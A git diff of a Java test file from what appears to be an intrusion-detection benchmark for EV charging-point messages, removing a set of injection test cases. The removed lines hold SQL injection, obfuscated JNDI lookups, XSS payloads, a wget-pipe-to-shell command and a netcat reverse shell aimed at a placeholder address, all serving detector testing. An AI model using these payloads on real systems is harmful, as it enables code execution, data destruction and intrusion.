@@ -6,9 +6,8 @@ import com.fasterxml.jackson.databind.node.ObjectNode;
 import io.ferrule.benchmarks.ids.simulation.Json;
 import java.util.ArrayList;
 import java.util.List;
-import java.util.function.Consumer;
 
-/** A14 to A22: what is wrong inside one text. Broken texts are written by hand, because no library would write them. */
+/** A14 to A21: what is wrong inside one text. Broken texts are written by hand, because no library would write them. */
 final class MessageAttacks {
 
     private static final String COLLIDING = "AaBB";
@@ -25,7 +24,7 @@ final class MessageAttacks {
         return new Attack(type, name, s -> s.raw(text));
     }
 
-    private static Attack says(String type, String name, String action, ObjectNode payload) {
+    static Attack says(String type, String name, String action, ObjectNode payload) {
         return new Attack(type, name, s -> s.says(action, payload));
     }
 
@@ -160,7 +159,6 @@ final class MessageAttacks {
                                                 "status",
                                                 i % 2 == 0 ? "AVAILABLE" : "charging"))))));
         times(all);
-        injections(all);
         return all;
     }
 
@@ -186,48 +184,7 @@ final class MessageAttacks {
                 Json.object("connectorId", 1, "idTag", "0401", "meterStart", 1, "timestamp", 1_000_000)));
     }
 
-    private static void injections(List<Attack> all) {
-        Consumer<String[]> add = text -> all.add(says(
-                "A22",
-                text[0],
-                text[1],
-                text[1].equals("Authorize")
-                        ? Json.object("idTag", text[2])
-                        : text[1].equals("BootNotification")
-                                ? boot("chargePointModel", text[2])
-                                : Json.object(
-                                        "connectorId",
-                                        1,
-                                        "errorCode",
-                                        "OtherError",
-                                        "status",
-                                        "Faulted",
-                                        "info",
-                                        text[2])));
-        List.of(
-                        new String[] {"SQL in a card", "Authorize", "' OR '1'='1"},
-                        new String[] {"SQL that drops", "Authorize", "x'; DROP TABLE tx--"},
-                        new String[] {"a look-up in a model", "BootNotification", "${jndi:ldap://a/b}"},
-                        new String[] {
-                            "a hidden look-up", "StatusNotification", "${${lower:j}ndi:${lower:l}dap://203.0.113.66/a}"
-                        },
-                        new String[] {"a script", "BootNotification", "<script>x()</script>"},
-                        new String[] {"a picture that runs", "StatusNotification", "<img src=x onerror=alert(1)>"},
-                        new String[] {"a command", "StatusNotification", "x; wget http://203.0.113.66/a -O- | sh"},
-                        new String[] {"a command in back-ticks", "StatusNotification", "`reboot`"},
-                        new String[] {
-                            "a command in brackets", "StatusNotification", "$(nc 203.0.113.66 4444 -e /bin/sh)"
-                        },
-                        new String[] {
-                            "a forged line of a log",
-                            "StatusNotification",
-                            "ok\r\n2026-01-07 12:00:00 INFO admin logged in"
-                        },
-                        new String[] {"orders for a terminal", "StatusNotification", "\u001b[2J\u001b[1;31mHACKED"})
-                .forEach(add);
-    }
-
-    private static ObjectNode boot(String name, String text) {
+    static ObjectNode boot(String name, String text) {
         ObjectNode boot = Json.object("chargePointVendor", "Alder", "chargePointModel", "A2-22");
         return boot.put(name, text);
     }
